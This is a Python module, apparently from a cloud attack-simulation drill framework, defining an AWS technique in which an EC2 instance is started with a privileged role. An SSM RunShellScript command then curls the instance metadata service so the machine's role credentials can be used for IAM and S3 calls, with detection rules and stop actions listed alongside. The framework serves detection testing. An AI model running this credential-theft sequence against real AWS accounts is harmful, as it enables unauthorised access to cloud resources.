"""A command is run on a machine that was there before, and the credentials of its role are carried off."""

from unleak.drill.documents import IMAGE, be_administrator
from unleak.drill.moves import Answer, call
from unleak.drill.stage import PRIVILEGED, Stage
from unleak.drill.technique import Loot, Technique, Traces


def prepare(stage: Stage) -> None:
    be_administrator(stage)
    started = stage.admin.client(stage.account, "ec2").run_instances(
        ImageId=IMAGE, InstanceType="t3.micro", MinCount=1, MaxCount=1, IamInstanceProfile={"Name": PRIVILEGED}
    )
    if stage.machine is not None:  # on an ordinary day it works for you
        stage.admin.leaked(stage.machine(started["Instances"][0]["InstanceId"]), "s3").list_buckets()


def _note(loot: Loot, answer: Answer) -> None:
    loot.seen["instance"] = str(answer["Reservations"][0]["Instances"][0]["InstanceId"])


def _carry_off(loot: Loot, _: Answer) -> None:
    if loot.stage.machine is not None:
        loot.held["machine"] = loot.stage.machine(loot.seen["instance"])


TECHNIQUE = Technique(
    id="command_on_a_machine",
    title="A command on a machine",
    attack=("T1651", "T1552.005"),
    prepare=prepare,
    moves=(
        call("ec2:DescribeInstances", then=_note),
        call("ssm:SendCommand", then=_carry_off, DocumentName="AWS-RunShellScript", InstanceIds=["{instance}"],
             Parameters={"commands": ["curl -s http://169.254.169.254/latest/meta-data/"]}),
        call("iam:ListUsers", "machine"),
        call("s3:ListBuckets", "machine"),
    ),
    seen=Traces(rules=("ssm-send-command", "instance-credentials-used"), things=("SSM::Command",)),
    stopped_by=("deactivate_key", "revoke_role_sessions"),
    by_hand=("ssm:SendCommand",),
    only_standin="nobody gets onto the machine to read its metadata",
)  # fmt: skip
